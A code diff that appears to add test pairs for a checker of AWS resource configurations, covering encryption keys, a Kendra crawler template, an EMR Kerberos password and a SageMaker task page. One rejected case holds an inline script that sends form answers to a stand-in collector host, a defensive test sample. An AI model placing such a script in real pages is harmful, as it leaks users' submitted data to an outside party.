@@ -325,4 +325,46 @@ export const moreLearning: Pairs = {
         { kmsKeyIdentifier: key, singleSignOn: { type: "IAM_IDC", userAssignment: "MANUAL" } },
         { singleSignOn: [{ type: "IAM_IDC", userAssignment: "AUTOMATIC" }] },
     ),
+    "a key that S3 does not use": single(
+        "athena-results-customer-key",
+        aws("athena", "Workgroup"),
+        {
+            configuration: {
+                resultConfiguration: { encryptionConfiguration: { encryptionOption: "CSE_KMS", kmsKeyArn: key } },
+            },
+        },
+        {
+            configuration: {
+                resultConfiguration: { encryptionConfiguration: { encryptionOption: "SSE_S3", kmsKeyArn: key } },
+            },
+        },
+    ),
+    "a key that a state machine does not use": single(
+        "sfn-machine-customer-key",
+        native("stepfunctions:StateMachine"),
+        { definitionString: "{}", encryptionConfiguration: { type: "CUSTOMER_MANAGED_KMS_KEY", kmsKeyId: key } },
+        { encryptionConfiguration: [{ type: "AWS_OWNED_KEY", kmsKeyId: key }] },
+    ),
+    "a crawler by a template": single(
+        "kendra-data-source-inside",
+        aws("kendra", "DataSource"),
+        { type: "TEMPLATE", configuration: { templateConfiguration: { template: '{"type":"S3"}' } } },
+        { configuration: { templateConfiguration: { template: '{"type":"WEBCRAWLERV2"}' } } },
+    ),
+    "a directory's password, in a list of one block": single(
+        "emr-no-secrets",
+        aws("emr", "Cluster"),
+        { releaseLabel: "emr-7.5.0", configurationsJson: unknownString },
+        { configurationsJson: "[]", kerberosAttributes: [{ realm: "R", adDomainJoinPassword: "correct-horse" }] },
+    ),
+    "answers that a page sends away": single(
+        "sagemaker-human-task-ui-scripts-known",
+        aws("sagemaker", "HumanTaskUI"),
+        {
+            uiTemplate: {
+                content: '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script><crowd-form/>',
+            },
+        },
+        { uiTemplate: [{ content: "<script>fetch(`https://collect.example.com`, { body: answers })</script>" }] },
+    ),
 };
